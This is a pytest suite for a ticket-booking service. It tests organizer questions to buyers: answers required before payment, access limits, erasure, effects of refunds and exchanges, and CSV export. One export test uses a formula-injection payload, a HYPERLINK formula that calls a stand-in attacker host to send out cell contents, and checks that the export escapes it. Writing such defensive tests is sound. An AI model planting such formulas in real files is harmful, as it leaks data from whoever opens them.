"""What organizers ask those who book: answered before paying, seen by both, erased when somebody wants."""

import csv
import io
from typing import Any

import httpx
import msgspec
import pytest
from litestar import Litestar

from booking.test_fees import hold, on_sale
from boxoffice.accounts.identity import Role
from boxoffice.booking.holds import answers_of
from boxoffice.booking.personal_data import erase_user
from boxoffice.booking.schemas import NewBooking
from boxoffice.inventory.answers import export
from boxoffice.inventory.answers.schemas import CHOICES_MAX, QUESTIONS_MAX
from boxoffice.kit.idempotency import Once, StillAtWork
from boxoffice.kit.idempotency_queries import list_taken
from boxoffice.kit.postgres import Database
from boxoffice.kit.text import LINE_CHARACTERS_MAX
from catalog.stage import Person, person
from payments.test_payments import report, tell
from payments.test_refunded_places import beside

BADGE = {"name": "badge", "text": "Whose name?", "kind": "TEXT", "per": "TICKET", "is_required": True}
MEAL = {"name": "meal", "text": "What to eat?", "kind": "CHOICE", "choices": ["Meat", "Vegan"]}
TERMS = {"name": "terms", "text": "Do you agree?", "kind": "CHECKBOX", "is_required": True}
GOOD = [
    {"question": "badge", "value": "Ada", "place": 0},
    {"question": "badge", "value": "Grace", "place": 1},
    {"question": "meal", "value": "Vegan"},
    {"question": "terms", "value": True},
]


@pytest.fixture
async def organizer(app: Litestar, client: httpx.AsyncClient, db: Database) -> Person:
    return await person(app, client, db, Role.ORGANIZER)


@pytest.fixture
async def buyer(app: Litestar, client: httpx.AsyncClient, db: Database) -> Person:
    return await person(app, client, db, Role.USER)


async def put(who: Person, path: str, body: Any) -> httpx.Response:
    return await who.client.put(path, json=body, headers=who.headers)


async def asking(organizer: Person, *questions: dict[str, Any], **changes: Any) -> dict[str, Any]:
    """An event on sale that asks."""
    event = await on_sale(organizer, **changes)
    answer = await put(
        organizer, f"/events/{event['id']}/questions", {"questions": questions or (BADGE, MEAL, TERMS)}
    )
    assert answer.status_code == 200, answer.text
    return event


async def answer(buyer: Person, booking: dict[str, Any], answers: Any) -> httpx.Response:
    return await put(buyer, f"/bookings/{booking['id']}/answers", {"answers": answers})


async def pay(buyer: Person, booking: dict[str, Any]) -> httpx.Response:
    return await buyer.post(f"/bookings/{booking['id']}/payments", {})


async def test_who_has_not_answered_cannot_pay_yet(organizer: Person, buyer: Person):
    event = await asking(organizer)
    booking = await hold(buyer, event, seat_ids=[0, 1])
    asked = (await buyer.get(f"/events/{event['id']}/questions")).json()

    refused = await pay(buyer, booking)
    answered = await answer(buyer, booking, GOOD)
    paid = await pay(buyer, booking)

    assert [each["name"] for each in asked["questions"]] == ["badge", "meal", "terms"]
    assert (refused.status_code, refused.json()["type"]) == (409, "/problems/questions-open")
    assert (answered.status_code, answered.json()["answers"]) == (200, GOOD)
    assert paid.status_code == 201
    assert (await buyer.get(f"/bookings/{booking['id']}/answers")).json() == answered.json()
    listed = await organizer.get(f"/events/{event['id']}/answers")
    assert listed.json()["items"] == [answered.json()]


async def test_who_answers_with_the_hold_pays_at_once_and_no_journal_has_it(
    organizer: Person, buyer: Person, db: Database
):
    event = await asking(organizer)

    booking = await hold(buyer, event, seat_ids=[0, 1], answers=GOOD)
    best = await hold(buyer, event, best_available={"quantity": 2}, answers=GOOD)

    for each in (booking, best):
        kept = (await buyer.get(f"/bookings/{each['id']}/answers")).json()
        assert (kept["answers"], (await pay(buyer, each)).status_code) == (GOOD, 201)
    later = await hold(buyer, event, areas=[{"area_id": 0, "quantity": 1}])
    assert (await pay(buyer, later)).status_code == 409
    assert await db.get(
        int, "SELECT count(*) FROM journal WHERE event_id = $1 AND changes::text LIKE '%Ada%'", event["id"]
    ) == 0  # fmt: skip


async def test_answers_that_do_not_fit_hold_nothing(organizer: Person, buyer: Person):
    event = await asking(organizer)
    body = {"event_id": event["id"], "seat_ids": [0, 1]}

    for answers, pointer in ((GOOD[1:], "/answers"), (changed(2, value="Fish"), "/answers/2/value")):
        refused = await buyer.post("/bookings", body | {"answers": answers})
        assert refused.status_code == 422, refused.text
        assert [each["pointer"] for each in refused.json()["errors"]] == [pointer]
    draft = await organizer.has_draft()
    unknown = await buyer.post("/bookings", body | {"event_id": draft["id"], "answers": GOOD})

    assert unknown.status_code == 404
    assert (await buyer.get("/bookings")).json()["items"] == []


async def test_a_hold_with_answers_is_made_once_whatever_is_asked_by_then(
    organizer: Person, buyer: Person, db: Database
):
    event = await asking(organizer)
    body = {"event_id": event["id"], "seat_ids": [0, 1], "answers": GOOD}

    async def ask(key: str) -> httpx.Response:
        return await buyer.client.post(
            "/bookings", json=body, headers=buyer.headers | {"Idempotency-Key": key}
        )

    first = await ask("badges")
    await put(organizer, f"/events/{event['id']}/questions", {"questions": [MEAL]})
    again, other = await ask("badges"), await ask("others")

    assert (first.status_code, again.status_code, other.status_code) == (201, 201, 422)
    assert (again.json(), again.headers["idempotent-replayed"]) == (first.json(), "true")
    # While another request has the key, and may come to nothing, none is let on without its answers.
    once = Once(buyer.id, "HoldPlaces", "a third", [])
    async with db.transaction() as tx:
        assert await list_taken(tx, [once.lock_number])
        with pytest.raises(StillAtWork):
            await beside(answers_of(db, msgspec.convert(body, NewBooking), once))


async def test_the_organizer_gets_a_table_in_which_nothing_is_a_formula(
    organizer: Person, buyer: Person, monkeypatch: pytest.MonkeyPatch
):
    event = await asking(organizer, BADGE, MEAL)
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    names = [formula, 'Grace, "Amazing"\u00e4', "+1", "-1", "@SUM(A1)", "'quoted", "O'Hara=1"]
    for place, name in enumerate(names[:3]):
        seat = [{"question": "badge", "value": name, "place": 0}, {"question": "meal", "value": "Vegan"}]
        await hold(buyer, event, seat_ids=[place], answers=seat)
    floor = [{"question": "badge", "value": name, "place": at} for at, name in enumerate(names[3:])]
    await hold(buyer, event, areas=[{"area_id": 0, "quantity": 4}], answers=floor)
    path = f"/events/{event['id']}/answers.csv"

    whole = await organizer.get(path)
    monkeypatch.setattr(export, "EXPORTED_AT_ONCE", 2)
    pieces = await organizer.get(path)

    assert (whole.status_code, whole.headers["content-type"]) == (200, "text/csv; charset=utf-8")
    assert whole.headers["content-disposition"] == f'attachment; filename="answers-{event["id"]}.csv"'
    assert pieces.content == whole.content
    header, *rows = csv.reader(io.StringIO(whole.content.decode("utf-8-sig")))
    assert header == ["booking_id", "answered_at", "zone", "row", "number", "badge", "meal"]
    assert [row[2:] for row in rows[:2]] == [
        ["Left", "A", "1", f"'{formula}", "Vegan"],
        ["Left", "A", "2", names[1], "Vegan"],
    ]
    assert [row[2:] for row in rows[3:]] == [
        ["Floor", "", "", written, ""] for written in ("'-1", "'@SUM(A1)", "'quoted", "O'Hara=1")
    ]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert [(await each.get(path)).status_code for each in (buyer,)] == [403]


async def test_a_table_of_what_is_asked_once_has_a_row_for_each_booking(organizer: Person, buyer: Person):
    event = await asking(organizer, TERMS)
    path, agreed = f"/events/{event['id']}/answers.csv", [{"question": "terms", "value": True}]
    empty = await organizer.get(path)
    await hold(buyer, event, seat_ids=[0, 1], answers=agreed)

    [row] = csv.DictReader(io.StringIO((await organizer.get(path)).content.decode("utf-8-sig")))

    assert empty.content.decode("utf-8-sig") == "booking_id,answered_at,zone,row,number,terms\r\n"
    assert (row["zone"], row["terms"]) == ("", "yes")


async def test_an_exchange_and_other_questions_are_answered_anew(organizer: Person, buyer: Person):
    event = await asking(organizer)
    booking = await hold(buyer, event, seat_ids=[0, 1])
    await answer(buyer, booking, GOOD)
    swap = {"give": {"seat_ids": [1]}, "take": {"seat_ids": [2]}}
    assert (await buyer.post(f"/bookings/{booking['id']}/exchange", swap)).status_code == 200

    statuses = [(await pay(buyer, booking)).status_code]
    await answer(buyer, booking, GOOD)
    await put(organizer, f"/events/{event['id']}/questions", {"questions": [TERMS]})
    statuses.append((await pay(buyer, booking)).status_code)
    await put(organizer, f"/events/{event['id']}/questions", {"questions": [MEAL]})
    statuses.append((await pay(buyer, booking)).status_code)

    assert statuses == [409, 409, 201]


async def test_what_was_answered_for_a_place_goes_with_it(organizer: Person, buyer: Person):
    event = await asking(organizer, BADGE, MEAL)
    names, meal = ("Ada", "Grace", "Joan", "Mary"), {"question": "meal", "value": "Vegan"}
    badges = [{"question": "badge", "value": name, "place": at} for at, name in enumerate(names)]
    floor = [{"area_id": 0, "quantity": 2}]
    booking = await hold(buyer, event, seat_ids=[0, 1], areas=floor, answers=[*badges, meal])
    path = f"/bookings/{booking['id']}"
    assert (await tell(buyer.client, report((await pay(buyer, booking)).json()))).status_code == 204
    joan = (await buyer.get(f"{path}/tickets")).json()["items"][2]["id"]

    for places in ({"seat_ids": [0]}, {"ticket_ids": [joan]}):
        assert (await organizer.post(f"{path}/refunds", {"places": places})).status_code == 201

    answers = (await buyer.get(f"{path}/answers")).json()["answers"]
    assert answers == [badges[1] | {"place": 0}, badges[3] | {"place": 1}, meal]
    assert (await table(organizer, event)) == [["A", "2", "Grace", "Vegan"], ["", "", "Mary", "Vegan"]]


async def test_what_was_answered_for_places_that_were_exchanged_is_nobodys(organizer: Person, buyer: Person):
    event = await asking(organizer, BADGE | {"is_required": False}, MEAL)
    booking = await hold(buyer, event, seat_ids=[0, 1], answers=GOOD[:3])
    swap = {"give": {"seat_ids": [0]}, "take": {"seat_ids": [2]}}
    assert (await buyer.post(f"/bookings/{booking['id']}/exchange", swap)).status_code == 200

    assert (await buyer.get(f"/bookings/{booking['id']}/answers")).json()["answers"] == [GOOD[2]]
    assert (await table(organizer, event)) == [["", "", "", "Vegan"]]


async def table(organizer: Person, event: dict[str, Any]) -> list[list[str]]:
    """The rows of the table of answers, from the row of the seat on."""
    text = (await organizer.get(f"/events/{event['id']}/answers.csv")).content.decode("utf-8-sig")
    return [row[3:] for row in csv.reader(io.StringIO(text))][1:]


async def test_a_free_booking_is_confirmed_and_asked_afterwards(organizer: Person, buyer: Person):
    event = await asking(organizer, TERMS, prices={"Stalls": 0, "Floor": 0})
    agreed = [{"question": "terms", "value": True}]
    booking = await hold(buyer, event, seat_ids=[0])
    at_once = await hold(buyer, event, seat_ids=[1], answers=agreed)

    answered = await answer(buyer, booking, agreed)

    assert (booking["state"], answered.status_code, at_once["state"]) == ("CONFIRMED", 200, "CONFIRMED")
    listed = (await organizer.get(f"/events/{event['id']}/answers")).json()["items"]
    assert {each["booking_id"] for each in listed} == {booking["id"], at_once["id"]}


async def test_answers_are_for_those_they_concern_and_nobody_else(
    app: Litestar, client: httpx.AsyncClient, organizer: Person, buyer: Person, db: Database
):
    event = await asking(organizer)
    booking = await hold(buyer, event, seat_ids=[0, 1])
    await answer(buyer, booking, GOOD)
    other = await person(app, client, db, Role.ORGANIZER)

    for found in (
        await other.get(f"/bookings/{booking['id']}/answers"),
        await other.get(f"/events/{event['id']}/answers"),
        await answer(other, booking, GOOD),
        await put(other, f"/events/{event['id']}/questions", {"questions": []}),
    ):
        assert found.status_code in {403, 404}, found.text
    draft = await organizer.has_draft()
    assert (await buyer.get(f"/events/{draft['id']}/questions")).status_code == 404


async def test_answers_are_erased_with_the_account_and_a_booking_that_is_over_takes_none(
    organizer: Person, buyer: Person, db: Database
):
    event = await asking(organizer)
    booking = await hold(buyer, event, seat_ids=[0, 1])
    await answer(buyer, booking, GOOD)
    await buyer.post(f"/bookings/{booking['id']}/cancel")

    late = await answer(buyer, booking, GOOD)
    await erase_user(db, buyer.id)

    assert (late.status_code, late.json()["type"]) == (409, "/problems/booking-is-over")
    assert await db.get(int, "SELECT count(*) FROM answers WHERE event_id = $1", event["id"]) == 0
    assert await db.get(
        int, "SELECT count(*) FROM journal WHERE event_id = $1 AND changes::text LIKE '%Ada%'", event["id"]
    ) == 0  # fmt: skip


def changed(index: int, **members: Any) -> list[dict[str, Any]]:
    """Good answers but one."""
    return [each | members if at == index else each for at, each in enumerate(GOOD)]


@pytest.mark.parametrize(
    ("answers", "pointer"),
    [
        (GOOD[1:], "/answers"),
        (GOOD[:3], "/answers"),
        ([*GOOD, GOOD[3]], "/answers/4"),
        ([*GOOD, {"question": "age", "value": "36"}], "/answers/4/question"),
        ([*GOOD, {"question": "badge", "value": "Eve", "place": 2}], "/answers/4/place"),
        (changed(2, place=0), "/answers/2/place"),
        (changed(2, value="Fish"), "/answers/2/value"),
        (changed(2, value=True), "/answers/2/value"),
        (changed(3, value=False), "/answers/3/value"),
        (changed(3, value="yes"), "/answers/3/value"),
        (changed(0, value="  "), "/answers/0/value"),
        (changed(0, value="A\x00"), "/answers/0/value"),
        (changed(0, value="x" * (LINE_CHARACTERS_MAX + 1)), "/answers/0/value"),
        (changed(0, place=-1), "/answers/0/place"),
    ],
)
async def test_an_answer_that_does_not_fit_is_pointed_at(
    organizer: Person, buyer: Person, answers: list[dict[str, Any]], pointer: str
):
    booking = await hold(buyer, await asking(organizer), seat_ids=[0, 1])

    refused = await answer(buyer, booking, answers)

    assert refused.status_code == 422, refused.text
    assert [each["pointer"] for each in refused.json()["errors"]] == [pointer]
    assert (await buyer.get(f"/bookings/{booking['id']}/answers")).status_code == 404


def many(count: int) -> list[dict[str, Any]]:
    """So many questions."""
    return [{"name": f"q{number}", "text": "Well?", "kind": "TEXT"} for number in range(count)]


@pytest.mark.parametrize(
    ("questions", "pointer"),
    [
        ([MEAL, MEAL], "/questions/1/name"),
        ([MEAL | {"choices": []}], "/questions/0/choices"),
        ([TERMS | {"choices": ["Yes"]}], "/questions/0/choices"),
        ([MEAL | {"choices": [f"c{n}" for n in range(CHOICES_MAX + 1)]}], "/questions/0/choices"),
        (many(QUESTIONS_MAX + 1), "/questions"),
    ],
)
async def test_questions_that_do_not_fit_are_pointed_at(
    organizer: Person, questions: list[dict[str, Any]], pointer: str
):
    event = await on_sale(organizer)

    refused = await put(organizer, f"/events/{event['id']}/questions", {"questions": questions})

    assert refused.status_code == 422, refused.text
    assert [each["pointer"] for each in refused.json()["errors"]] == [pointer]


async def test_an_event_may_ask_the_most_there_can_be(organizer: Person):
    await asking(
        organizer, *many(QUESTIONS_MAX - 1), MEAL | {"choices": [f"c{n}" for n in range(CHOICES_MAX)]}
    )
